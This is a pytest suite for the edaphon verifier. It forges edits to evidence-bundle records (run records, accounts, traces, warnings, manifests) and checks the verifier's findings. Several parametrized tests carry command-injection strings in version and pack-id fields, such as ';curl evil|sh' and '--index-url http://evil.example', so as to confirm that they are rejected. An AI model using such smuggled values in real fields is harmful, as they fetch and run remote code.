"""Edits of one record that keep its form: each is told for what it is."""

import json
import re
from dataclasses import replace

import pytest
from click.testing import CliRunner

from edaphon.accounting import program_record
from edaphon.accounting.gathering import look
from edaphon.cli.main import build
from edaphon.cli.replay_words import conclusion
from edaphon.kernel import canonical
from edaphon.kernel.digests import digest
from edaphon.monitoring import NEWEST, READING_RULES
from edaphon.verification import verify
from edaphon.verification.steps import reading, recomputing
from tests.draft_packs import draft_of
from tests.replay.conftest import awkward_project
from tests.synthetic_bundle import published, relisted, stand_in, unpacked

ACCOUNT, TRACE = "account/account.json", "account/trace.jsonl"
RUN, CODE, PROJECT = "env/run.json", "env/code.sha256", "data/project.yaml"
MCS_RECORD = "method/edaphon.mcs-1.1/record.json"


@pytest.fixture(autouse=True)
def once(computed_once):
    """Compute the same evidence once."""


def edited(folder, name, change):
    """Change a canonical JSON member as a forger would."""
    record = json.loads((folder / name).read_bytes())
    change(record)
    (folder / name).write_bytes(canonical.dumps(record))


def rewritten(folder, name, old, new):
    """Change text of a member once, as a forger would."""
    text = (folder / name).read_bytes()
    assert old in text
    (folder / name).write_bytes(text.replace(old, new, 1))


def recrated(folder):
    """Let the crate name the digests that the files have now."""
    path = folder / "ro-crate-metadata.json"
    crate = json.loads(path.read_bytes())
    for item in crate["@graph"]:
        file = folder / item["@id"]
        if "sha256" in item and file.is_file():
            item["sha256"] = digest(file.read_bytes()).removeprefix("sha256:")
            item["contentSize"] = str(file.stat().st_size)
    before = path.read_bytes()
    again = json.dumps(crate, ensure_ascii=False, indent=1, sort_keys=True)
    path.write_bytes(again.encode() + before[len(before.rstrip()) :])


def account(folder, place, change):
    edited(folder, ACCOUNT, lambda found: change(found["accounts"][place]))


def replayed(folder):
    recrated(folder)
    return verify(relisted(folder), reports=stand_in)


def codes(found, *verdicts):
    """Return number and code of every finding of the verdicts, but for the log."""
    return {
        (item.step, item.code)
        for item in found.findings
        if item.verdict in verdicts and item.code not in {"LOG_NONE", "CHECK_RESTS"}
    }


def other_program(folder, version="0.0.9"):
    """Let another program have made the bundle."""
    (folder / CODE).write_bytes((folder / CODE).read_bytes() + b"\n")
    code = digest((folder / CODE).read_bytes())
    edited(folder, RUN, lambda run: run["program"].update(code=code, version=version))


def other_method(folder):
    """Let another edition of the first method have made its account."""
    record = (folder / MCS_RECORD).read_bytes()
    (folder / MCS_RECORD).write_bytes(record.replace(b"1e-9", b"1e+9"))
    renewed = digest((folder / MCS_RECORD).read_bytes())
    assert renewed != digest(record)
    account(folder, 0, lambda one: one["method"].update(digest=renewed))


# --- The run record -----------------------------------------------------------


@pytest.mark.parametrize("number", ["0", "01", "00", ""])
def test_rules_that_never_were_are_no_rules(folder, number):
    edited(
        folder, RUN, lambda run: run.update(reading_rules="edaphon.reading/" + number)
    )

    assert codes(replayed(folder), "failed") == {(4, "RECORD_FORM")}


BEYOND = f"edaphon.reading/{NEWEST + 1}"
"""Rules that nobody has written yet."""


def test_rules_beyond_those_of_the_same_program_fail(folder):
    edited(folder, RUN, lambda run: run.update(reading_rules=BEYOND))

    found = replayed(folder)

    assert codes(found, "failed") == {(6, "RUN_DIFFERS")}
    (told,) = [item for item in found.findings if item.code == "RUN_DIFFERS"]
    assert BEYOND in told.text("en")
    assert READING_RULES in told.text("zh")


def test_rules_of_another_program_are_not_checked(folder):
    edited(folder, RUN, lambda run: run.update(reading_rules=BEYOND))
    other_program(folder)

    found = replayed(folder)

    assert not codes(found, "failed")
    assert (7, "RULES_UNKNOWN") in codes(found, "not_checked")


def test_a_bundle_does_not_call_itself_a_draft(folder):
    edited(folder, RUN, lambda run: run.update(draft=True))

    assert (6, "RUN_DIFFERS") in codes(replayed(folder), "failed")


def test_times_and_host_are_nobody_elses(folder):
    edited(folder, RUN, lambda run: run.update(python="3.99", numpy="9"))

    assert replayed(folder).passed()


def as_earlier(account):
    """Write the account in the form of the rules before."""
    del account["layer_changes"]
    account["v"] = "edaphon.account/2"


def test_an_account_of_a_later_form_than_its_rules_write_differs(folder):
    edited(folder, RUN, lambda run: run.update(reading_rules="edaphon.reading/4"))
    other_program(folder, "0.4.0")

    assert (9, "FIGURES_DIFFER") in codes(replayed(folder), "failed")


@pytest.mark.parametrize(
    ("version", "draft", "fails"),
    [
        ("0.2.0", True, True), ("9.1.dev3", False, True), ("0.1.0", True, False),
        ("0.1.0", False, True),
    ],
)  # fmt: skip
def test_rules_older_than_the_version_writes_fail(folder, version, draft, fails):
    """Nor does a version of before the release bring released methods."""
    older = {"reading_rules": "edaphon.reading/1", "draft": draft}
    edited(folder, RUN, lambda run: run.update(older))
    edited(folder, ACCOUNT, as_earlier)
    other_program(folder, version)

    found = replayed(folder)

    assert codes(found, "failed") == ({(6, "RULES_OLDER")} if fails else set())


def test_another_program_that_calls_itself_final_is_not_checked(folder, monkeypatch):
    """Where the forms of the records are drafts here."""
    here = {**program_record(), "draft": True}
    monkeypatch.setattr(reading, "program_record", lambda: here)
    other_program(folder)

    found = replayed(folder)

    assert (6, "FORMS_RELEASED") in codes(found, "not_checked")
    assert not found.passed()


def test_a_pack_of_edaphon_is_released_by_edaphon_alone(folder, monkeypatch):
    made = recomputing.accounts

    def as_drafts(*given, **more):
        done = made(*given, **more)
        return tuple(replace(item, pack=draft_of(item.pack)) for item in done)

    monkeypatch.setattr(recomputing, "accounts", as_drafts)
    other_program(folder)

    found = replayed(folder)

    assert (8, "METHOD_RELEASED") in codes(found, "not_checked")
    assert "METHOD_STATUS" not in {item.code for item in found.findings}
    assert found.method == "same"
    assert found.draft
    assert not found.passed()


INVENTED = {
    "code": "VALUE_ZERO",
    "facts": {"property": "checked by the Ministry"},
    "where": {"file": "lab/x.csv", "row": 1},
}


@pytest.mark.parametrize(
    "change",
    [
        lambda run: run.pop("warnings"),
        lambda run: run.update(warnings=[]),
        lambda run: run["warnings"].pop(),
        lambda run: run["warnings"].reverse(),
        lambda run: run["warnings"].append(INVENTED),
        lambda run: run["warnings"].append({**INVENTED, "code": "FILE_UNREAD"}),
        lambda run: run["warnings"][0].update(code="ALL_GOOD"),
        lambda run: run["warnings"][0].update(facts={}),
        lambda run: run["warnings"][0]["where"].update(row=999),
    ],
)
def test_warnings_are_those_that_the_files_give(folder, change):
    edited(folder, RUN, change)

    found = replayed(folder)

    assert codes(found, "failed") == {(7, "WARNINGS_DIFFER")}
    assert found.figures == "identical"


def test_what_lay_unread_in_the_folder_accuses_no_honest_bundle(tmp_path):
    """The table is in no bundle, so that nobody can find it again."""
    project = awkward_project().write(tmp_path / "project")
    (project / "other.csv").write_text("a,b\n1,2\n", "utf-8")
    folder = unpacked(published(project), tmp_path / "bundle")
    run = json.loads((folder / RUN).read_bytes())
    found = verify(folder, reports=stand_in)

    assert "FILE_UNREAD" in {item.code for item in look(project).problems}
    assert "FILE_UNREAD" not in [item["code"] for item in run["warnings"]]
    assert found.passed()
    assert found.figures == "identical"


def test_warnings_of_another_program_are_named_and_accuse_nobody(folder):
    edited(folder, RUN, lambda run: run["warnings"].append(INVENTED))
    other_program(folder)

    found = replayed(folder)

    assert not found.failed
    assert (7, "WARNINGS_ELSEWHERE") in codes(found, "not_checked")
    (told,) = [item for item in found.findings if item.code == "WARNINGS_ELSEWHERE"]
    assert "VALUE_ZERO lab/x.csv, 1" in told.text("en")
    assert "VALUE_ZERO lab/x.csv, 1" in told.text("zh")


def test_reports_are_not_made_of_warnings_that_the_files_do_not_give(folder):
    given = []

    def reports(records):
        given.append(json.loads(records[RUN])["warnings"])
        return stand_in(records)

    edited(folder, RUN, lambda run: run["warnings"].append(INVENTED))
    recrated(folder)
    verify(relisted(folder), reports=reports)

    assert given
    assert INVENTED not in given[0]


@pytest.mark.parametrize(
    "version",
    [
        "0.1.0 --index-url http://evil.example", "0.1.0;curl evil|sh", "0.1.0`x`",
        "latest", "", "0.1.0\n", "0.1.0+" + "a" * 200, "../x",
    ],
)  # fmt: skip
def test_a_version_is_no_place_for_a_command(folder, version):
    other_program(folder, version)

    found = replayed(folder)

    assert codes(found, "failed") == {(4, "RECORD_FORM")}


def test_a_version_of_another_form_is_no_place_for_a_command_either(folder):
    other_program(folder, "0.1.0 --index-url http://evil.example")
    edited(folder, RUN, lambda run: run.update(v="edaphon.run/1"))

    found = replayed(folder)

    (told,) = [item for item in found.findings if item.code == "RECORD_VERSION"]
    assert "evil" not in told.text("en") + told.text("zh") + found.version


@pytest.mark.parametrize("pack", ["x (`curl evil`)", "frozen.pair/1.0 --index-url x"])
def test_an_id_of_a_pack_is_no_place_for_a_command(folder, pack):
    packs = [{"id": pack, "code": "sha256:" + 64 * "0"}]
    edited(folder, RUN, lambda run: run["program"].update(packs=packs))

    assert codes(replayed(folder), "failed") == {(4, "RECORD_FORM")}


def test_the_same_program_writes_no_other_form(folder):
    edited(folder, RUN, lambda run: run.update(v="edaphon.run/1"))

    found = replayed(folder)

    assert codes(found, "failed") == {(4, "RECORD_NOT_ITS_OWN")}
    (told,) = [item for item in found.findings if item.step == 4]
    assert "nstall" not in told.text("en")


@pytest.mark.parametrize(
    ("moment", "code"),
    [
        ("2024-10-19T09:59:59Z", "RUN_BEFORE_PERIOD_END"),
        ("2021-08-01T00:00:00Z", "RUN_BEFORE_SEAL"),
    ],
)
def test_an_account_is_not_of_before_its_period(folder, moment, code):
    edited(folder, RUN, lambda run: run.update(generated_at=moment))

    assert (7, code) in codes(replayed(folder), "failed")


# --- Units --------------------------------------------------------------------


@pytest.mark.parametrize("place", [0, 1])
@pytest.mark.parametrize(
    "change",
    [
        lambda one: one.update(labels={}),
        lambda one: one["labels"].update(extra=0),
        lambda one: one["labels"].update(extra=1),
        lambda one: one["labels"].pop("removals"),
    ],
)
def test_labels_are_neither_deleted_nor_invented(folder, place, change):
    account(folder, place, change)

    found = replayed(folder)

    assert (9, "FIGURES_DIFFER") in codes(found, "failed")
    assert found.figures == "differ"


def test_a_label_that_is_missing_counts_as_none(folder):
    account(folder, 1, lambda one: one.update(labels={}))

    told = [item for item in replayed(folder).findings if item.step == 10]

    assert {
        item.facts["part"] for item in told if item.code == "UNITS_UNDERSTATED"
    } == {"labels/removals"}


def test_one_unit_under_a_label_of_many_fails(folder):
    def one_unit(one):
        one["units"] = 1
        for vintage in one["vintages"]:
            vintage["units"] = 0
        one["vintages"][-1]["units"] = 1

    account(folder, 1, one_unit)

    found = replayed(folder)

    assert codes(found, "failed") >= {(10, "UNITS_SUM")}
    (told,) = [item for item in found.findings if item.code == "UNITS_SUM"]
    assert "labels add up to 576" in told.text("en")
    assert "标签" in told.text("zh")


def test_one_unit_less_everywhere_is_a_note(folder):
    def less(one):
        one["units"] -= 1
        one["labels"]["removals"] -= 1
        one["vintages"][0]["units"] -= 1

    account(folder, 1, less)

    recrated(folder)
    found = verify(relisted(folder))

    assert found.passed()
    assert found.figures == "within_tolerance"
    assert codes(found, "note") == {(10, "UNITS_UNDERSTATED")}
    assert not any("byte" in one for one in conclusion(found, ()))


def test_under_another_method_nothing_is_said_about_units(folder):
    def more(one):
        one["vintages"][0]["units"] += 9999 - one["units"]
        one["units"] = one["labels"]["removals"] = 9999

    account(folder, 0, more)
    other_method(folder)
    other_program(folder)

    found = replayed(folder)

    assert not found.failed
    assert (10, "UNITS_UNCHECKED") in codes(found, "not_checked")
    assert "UNITS_OVERSTATED" not in {item.code for item in found.findings}
    assert [item.method for item in found.units] == ["verra.vm0042/2.2"]
    assert found.figures == "not_checked"
    (told,) = [item for item in found.findings if item.code == "UNITS_UNCHECKED"]
    assert "Do not issue" in told.text("en")
    assert "签发" in told.text("zh")


# --- Figures ------------------------------------------------------------------


def test_the_same_number_in_another_text_is_an_edit(folder):
    account(folder, 0, lambda one: one["equal_mass"].update(
        value=one["equal_mass"]["value"] + "0"))  # fmt: skip

    assert (9, "FIGURES_DIFFER") in codes(replayed(folder), "failed")


def test_another_program_may_print_more_digits(folder):
    account(folder, 0, lambda one: one["equal_mass"].update(
        value=one["equal_mass"]["value"] + "0"))  # fmt: skip
    other_program(folder)

    found = replayed(folder)

    assert (9, "FIGURES_CLOSE") in codes(found, "note")
    assert found.figures == "within_tolerance"


@pytest.mark.parametrize("name", ["value", "low"])
def test_a_parameter_is_exact(folder, name):
    def more(one):
        found = next(item for item in one["parameters"] if "." in item[name])
        found[name] += "0000000000001"

    account(folder, 0, more)
    other_program(folder)

    assert (9, "FIGURES_DIFFER") in codes(replayed(folder), "failed")


# --- The trace ----------------------------------------------------------------

NUMBER = re.compile(rb'"values":\[(-?[0-9]+\.[0-9]{6,})([],])')


@pytest.mark.parametrize(
    "edit",
    [
        lambda old: old.replace(b"\n", b"\r\n"),
        lambda old: old.replace(b"\n", b"\r\n", 1),
        lambda old: old.replace(b":", b": ", 1),
        lambda old: NUMBER.sub(rb'"values":[\g<1>0000\2', old, count=1),
        lambda old: NUMBER.sub(rb'"values":[\g<1>e0\2', old, count=1),
        lambda old: old.replace(b"{", b'{"z":1,', 1).replace(b'{"z":1,', b"{ ", 1),
    ],
)  # fmt: skip
def test_a_trace_has_one_form(folder, edit):
    before = (folder / TRACE).read_bytes()
    (folder / TRACE).write_bytes(edit(before))
    assert (folder / TRACE).read_bytes() != before

    found = replayed(folder)

    assert codes(found, "failed") == {(4, "RECORD_NOT_CANONICAL")}
    (told,) = [item for item in found.findings if item.code == "RECORD_NOT_CANONICAL"]
    assert told.where.row


# --- Other members ------------------------------------------------------------


@pytest.mark.parametrize("name", ["env/numeric.json", "env/sbom.json"])
@pytest.mark.parametrize(
    "text", [b"[[[[", b"[]", b"7", b"[" * 60_000, b'{"a":1,"a":2}']
)
def test_what_describes_the_machine_is_json(folder, name, text):
    (folder / name).write_bytes(text)

    found = replayed(folder)

    assert {number for number, _ in codes(found, "failed")} == {4}
    (told,) = [item for item in found.findings if item.verdict == "failed"]
    assert told.where.file == name


@pytest.mark.parametrize("name", ["env/numeric.json", "env/sbom.json"])
def test_another_machine_is_still_not_compared(folder, name):
    (folder / name).write_bytes(b'{"share": 0.5}\n')

    found = replayed(folder)

    assert found.passed()
    assert name in [item.member for item in found.not_compared]


def test_a_plan_that_is_a_list_is_named(folder):
    (folder / "plan/sampling.yaml").write_bytes(b"[1, 2]\n")
    renewed = digest(b"[1, 2]\n")
    edited(folder, ACCOUNT, lambda found: found.update(plan=renewed))

    told = [item for item in replayed(folder).findings if item.step == 7]

    assert told
    for item in told:
        assert "project.yaml" not in item.text("en") + item.text("zh")
        assert "plan/sampling.yaml" in item.text("en")


# --- Showing ------------------------------------------------------------------


def shown(monkeypatch, folder, *words, language="en"):
    monkeypatch.setenv("EDAPHON_LANG", language)
    return CliRunner().invoke(build(), ["show", str(folder), *words])


@pytest.mark.parametrize("figure", [(), ("gain",)])
@pytest.mark.parametrize(
    ("language", "line"),
    [
        ("en", "As the bundle states; not computed again here: `edaphon replay` does."),
        ("zh", "以上为证据包所载，此处未复算；复算请用 edaphon replay。"),
    ],
)
def test_what_is_shown_was_not_computed_again(
    monkeypatch, folder, figure, language, line
):
    told = shown(monkeypatch, folder, *figure, language=language)

    assert told.exit_code == 0
    assert told.stdout.splitlines().count(line) == 1
    record = json.loads(shown(monkeypatch, folder, *figure, "--json").stdout)
    first = record[0] if figure else record
    assert first["replayed"] is False


@pytest.mark.parametrize(
    ("member", "text"),
    [
        (PROJECT, b"id: other\n"),
        (RUN, b"{}"),
        ("account/evidence.json", b"{}"),
        (MCS_RECORD, b"{}"),
        (CODE, b""),
        ("account/observations.csv", b""),
        ("env/sbom.json", b"[[[["),
    ],
)
@pytest.mark.parametrize("words", [(), ("--json",)])
def test_nothing_is_shown_of_records_of_another_bundle(
    monkeypatch, folder, member, text, words
):
    (folder / member).write_bytes(text)

    told = shown(monkeypatch, relisted(folder), "gain", *words)

    assert told.exit_code == 1
    assert "gain = " not in told.stdout


def test_a_manifest_of_another_version_cannot_be_read(monkeypatch, folder):
    rewritten(folder, "manifest.json", b"edaphon.manifest/1", b"edaphon.manifest/9")

    assert shown(monkeypatch, folder).exit_code == 3
